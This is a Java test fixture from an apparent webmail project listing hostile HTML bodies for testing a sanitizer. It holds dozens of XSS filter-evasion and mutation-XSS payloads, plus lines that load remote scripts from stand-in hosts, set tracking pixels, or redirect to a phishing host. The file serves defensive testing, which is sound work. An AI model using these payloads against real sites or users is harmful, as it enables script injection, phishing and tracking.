package dev.postamt.webmail;

import java.util.List;

/**
 * Hostile HTML bodies, written for these tests after the public XSS cheat sheets (OWASP's XSS filter
 * evasion sheet, PortSwigger's XSS cheat sheet, the DOMPurify and mXSS write-ups): each would run
 * script or reach out of the message if it got through. Every payload calls {@code alert} or sets
 * {@code data-pwned} on the top document's body, which the browser test watches.
 */
final class HostileHtml {
  private HostileHtml() {}

  static final String MARK = "top.document.body.setAttribute('data-pwned','1')";

  static final List<String> PAYLOADS = List.of(
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<img src=x onerror=alert(1)>",
      "<img src=x onerror=\"" + MARK + "\">",
      "<IMG SRC=\"javascript:alert(1);\">",
      "<img src=x:alert(alt) onerror=eval(src) alt=0>",
      "<img \"\"\"><script>alert(1)</script>\">",
      "<a href=\"javascript:alert(1)\">click</a>",
      "<a href=\"jAvAsCrIpT&colon;alert(1)\">click</a>",
      "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
      "<a href=\"java\tscript:alert(1)\">click</a>",
      "<a href=\" &#14;  javascript:alert(1)\">click</a>",
      "<a href=\"vbscript:msgbox(1)\">click</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
      "<a href=\"https://example.org/\" onclick=\"alert(1)\" onmouseover=\"" + MARK + "\">link</a>",
      "<svg><script>alert(1)</script></svg>",
      "<svg onload=alert(1)>",
      "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=\">",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
      "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
      "<div style=\"width: expression(alert(1))\">css expression</div>",
      "<div style=\"background:url(javascript:alert(1))\">css url</div>",
      "<div style=\"behavior: url(xss.htc)\">behavior</div>",
      "<div style=\"background-image: u\\72 l(https://tracker.example/css.gif)\">escaped url</div>",
      "<xss style=\"xss:expr/*XSS*/ession(alert(1))\">comment trick</xss>",
      "<style>@import 'https://xss.example/a.css'; body{background:url(https://tracker.example/bg.gif)}</style>styled",
      "<style>*{color:red}</style><p>after style</p>",
      "<link rel=\"stylesheet\" href=\"https://xss.example/x.css\">",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
      "<meta http-equiv=\"refresh\" content=\"0;url=https://phish.example/\">",
      "<base href=\"javascript:alert(1)//\"><a href=\"x\">relative link</a>",
      "<base href=\"https://phish.example/\"><a href=\"/login\">relative login</a><img src=\"/t.gif\">",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
      "<select><template><img src=x onerror=alert(1)></template></select>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
      "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
      "<iframe src=\"javascript:alert(1)\"></iframe>",
      "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
      "<object data=\"javascript:alert(1)\"></object>",
      "<embed src=\"data:text/html,<script>alert(1)</script>\">",
      "<form action=\"javascript:alert(1)\"><input type=\"submit\" value=\"Go\"><button formaction=\"javascript:alert(1)\">b</button></form>",
      "<body onload=alert(1)>body</body>",
      "<details open ontoggle=\"" + MARK + "\">details</details>",
      "<video><source onerror=\"alert(1)\"></video>",
      "<table background=\"javascript:alert(1)\"><tr><td background=\"https://tracker.example/td.gif\">cell</td></tr></table>",
      "<img src=\"https://tracker.example/pixel.gif\" width=\"1\" height=\"1\">",
      "<img srcset=\"https://tracker.example/a.gif 1x\" src=\"x\">",
      "<a href=\"https://example.org/\" target=\"_self\" ping=\"https://tracker.example/ping\">ping</a>",
      "<div id=\"reader\" name=\"csrf\">clobbering ids</div><form name=\"getElementById\"></form>",
      // mutation XSS and namespace confusion (DOMPurify bypass write-ups, Securitum's mXSS research)
      "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<math><style><img src=x onerror=alert(1)></style></math>",
      "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
      "<svg><a><rect width=\"100\" height=\"100\"/><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></a></svg>",
      "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x\"/></svg>",
      "<math href=\"javascript:alert(1)\">click the formula</math>",
      "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
      "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
      "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
      "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
      "<template><script>alert(1)</script></template><div>after template</div>",
      // <base>, meta refresh and meta CSP
      "<base href=\"https://phish.example/\" target=\"_top\"><a href=\"https://example.org/\">top</a>",
      "<meta http-equiv=\"refresh\" content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
      "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\"><script>alert(1)</script>",
      // CSS: expression, url(javascript:), bindings, escapes
      "<div style=\"background-image:url(&quot;javascript:alert(1)&quot;)\">css quoted url</div>",
      "<div style=\"-moz-binding:url(https://xss.example/xss.xml#xss)\">binding</div>",
      "<div style=\"width:expr\\ession(alert(1))\">escaped expression</div>",
      "<p style=\"color:red;background:url('java\\0script:alert(1)')\">escaped scheme</p>",
      "<p style=\"color:red\" style=\"background:url(https://tracker.example/dup.gif)\">duplicate style</p>",
      // srcdoc, formaction, forms outside forms
      "<iframe srcdoc=\"&lt;img src=x onerror=&quot;" + "parent.parent.document.body.setAttribute('data-pwned',1)" + "&quot;&gt;\"></iframe>",
      "<button form=\"f\" formaction=\"javascript:alert(1)\">go</button><form id=\"f\"></form>",
      "<input type=\"image\" src=\"x\" formaction=\"javascript:alert(1)\">",
      "<isindex action=\"javascript:alert(1)\" type=\"image\">",
      "<object type=\"image/svg+xml\" data=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\"></object>",
      "<body background=\"javascript:alert(1)\" onpageshow=\"alert(1)\">body attributes</body>",
      "<img src=\"data:image/png;base64,iVBOR\" onerror=\"alert(1)\">",
      "<img src=\"cid:nothing@here\" onerror=\"alert(1)\"><a href=\"cid:part1@here\">cid link</a>",
      "<p>text <b>bold</b> and <a href=\"https://example.org/\">a link</a></p>");
}
